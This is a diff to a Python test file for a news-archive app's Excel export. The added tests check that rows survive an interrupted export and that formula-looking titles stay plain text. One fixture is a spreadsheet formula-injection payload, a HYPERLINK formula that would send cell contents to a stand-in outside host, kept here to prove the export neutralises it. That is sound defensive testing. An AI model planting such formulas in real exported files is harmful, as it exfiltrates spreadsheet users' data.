@@ -5,7 +5,9 @@ from __future__ import annotations
 import csv
 import io
 import json
+import zipfile
 
+import openpyxl
 import pytest
 
 from wardnews.index import build_index
@@ -83,3 +85,27 @@ def test_an_export_that_cannot_finish_says_so_at_its_end(client, monkeypatch, er
     assert rows[-1] == ["# error", f"the export stopped here: {said}"]
     data = json.loads(client.get("/export.json").get_data(as_text=True))
     assert len(data["hits"]) == len(hits) and data["error"] == said
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/export.xlsx").data))
+    assert book.worksheets[0].max_row == 1 + len(hits)  # what was read before the stop is kept
+    assert list(book.worksheets[1].values)[-1] == ("error", f"the export stopped here: {said}")
+
+
+def test_a_workbook_keeps_formula_looking_text_as_text_unchanged(client):
+    data = client.get("/export.xlsx", query_string={"q": "", "ward": "=A1"}).data
+    every = client.get("/export.xlsx").data
+    with zipfile.ZipFile(io.BytesIO(every)) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not [s for s in sheets if "<f>" in s or "<f " in s]  # no formula anywhere
+    book = openpyxl.load_workbook(io.BytesIO(every))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert {c.data_type for c in cells} <= {"s", "n", "d", "b"}
+    from wardnews.webui.state import get_archive
+
+    with client.application.app_context():
+        indexed = {hit.title for hit in get_archive().iter_results("")}
+    titles = {c.value for c in cells if c.column == 4 and c.row > 1}
+    assert titles == indexed and '=HYPERLINK("http://x.example/?"&A1,"bấm vào")' in titles
+    assert {t[0] for t in titles} == {"=", "+", "-", "@"}  # exactly as indexed: no apostrophe added
+    assert {c.value for c in cells if c.column == 10 and c.row > 1} == {"=evil.jsonl"}
+    facts = dict(openpyxl.load_workbook(io.BytesIO(data)).worksheets[1].values)
+    assert facts["ward"] == "=A1"
